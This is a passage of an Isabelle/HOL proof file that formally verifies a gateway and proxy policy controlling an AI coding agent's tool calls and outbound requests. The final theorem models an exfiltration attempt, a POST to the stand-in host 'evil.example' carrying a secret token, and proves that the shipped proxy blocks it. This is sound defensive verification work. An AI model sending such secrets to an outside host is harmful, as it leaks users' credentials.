  have r: "cel_reads ex_re Inr (dp_cel ?dp) (map fst coding_agent_rules)"
    using shipped_readable(1) [of ex_re] by simp
  have l: "compiled_from_toml_str (\<lambda>_. Inr coding_agent_policy) Inr [] = Inr (gw_policy ?g)"
    by (simp add: ex_agent_pack_loads)
  have silent: "(\<exists>fc. EV_Forward fc \<in> set (fst (snd (handle ?dp ?io call ?g)))) \<longleftrightarrow>
     call_override ?io call ?g = None \<and> (\<exists>e. EV_Record e True \<in> set (fst (snd (handle ?dp ?io call ?g))))
     \<and> silent_call (env_trusted_hosts (gw_env ?g)) call" for call
  proof -
    obtain o' evs g' where h: "handle ?dp ?io call ?g = (o', evs, g')"
      by (metis prod_cases3)
    from coding_agent_gateway_silent [of "\<lambda>_. Inr coding_agent_policy" "[]", OF refl r l h] show ?thesis
      by (simp add: h)
  qed
  have s: "silent_call ts (ex_call K_FileRead ''/x'')" "\<not> silent_call ts (ex_call K_Exec ''/x'')" for ts
    by (simp_all add: silent_call_def ex_call_def)
  have "call_override ?io (ex_call K_FileRead ''/x'') ?g = None"
    by (simp add: override_deny_def protects_def split: option.split)
  moreover have "is_ok (fst (call_appended ?dp ?io (ex_call K_FileRead ''/x'') ?g))"
    by (rule fresh_log_append) (simp_all add: ex_dp_def ex_ser_def)
  then have "\<exists>e. EV_Record e True \<in> set (fst (snd (handle ?dp ?io (ex_call K_FileRead ''/x'') ?g)))"
    using handle_events [of ?dp ?io "ex_call K_FileRead ''/x''" ?g] by auto
  ultimately show ?thesis
    unfolding Let_def silent using s by blast
qed

theorem shipped_proxy_blocks_leak_witness:
  "let dp = ex_pd\<lparr>pd_cel := ex_agent_pack_exec\<rparr>; h = (ex_proxy DK_Allow)\<lparr>ph_policy := ex_agent_pack\<rparr>
   in fst (handle_request dp (\<lambda>_. []) ex_pio (ex_post ''evil.example'' ''x=s3cret-token'') h)
        \<noteq> RR_Request (ex_post ''evil.example'' ''x=s3cret-token'')"
proof -
  let ?dp = "ex_pd\<lparr>pd_cel := ex_agent_pack_exec\<rparr>" and ?h = "(ex_proxy DK_Allow)\<lparr>ph_policy := ex_agent_pack\<rparr>"
    and ?rq = "ex_post ''evil.example'' ''x=s3cret-token''"
  have "cel_reads ex_re Inr (pd_cel ?dp) (map fst coding_agent_rules)"
    using shipped_readable(1) [of ex_re] by simp
  then have p: "(\<lambda>_. Inr coding_agent_policy) [] = Inr coding_agent_policy
      \<and> cel_reads ex_re Inr (pd_cel ?dp) (map fst coding_agent_rules)
      \<or> (\<lambda>_. Inr coding_agent_policy) [] = Inr personal_assistant_policy
         \<and> cel_reads ex_re Inr (pd_cel ?dp) (map fst personal_assistant_rules)"
    by simp
  have l: "compiled_from_toml_str (\<lambda>_. Inr coding_agent_policy) Inr [] = Inr (ph_policy ?h)"
    by (simp add: ex_agent_pack_loads)
  have r: "readable_body (pd_http ?dp) ?rq"
    using ex_post_readable by (simp add: ex_pd_def)
  have "wr_body ?rq = Body (Inr ''x=s3cret-token'')" "utf8_valid ''x=s3cret-token''"
    "body_leaks_secret (ph_broker ?h) ''x=s3cret-token''"
    "normalize_host (hr_host (summarize (pd_http ?dp) ?rq)) \<notin> set (env_trusted_hosts (ph_env ?h))"
    by code_simp+
  from shipped_proxy_blocks_leak [OF p l r this] show ?thesis unfolding Let_def by blast
qed

end
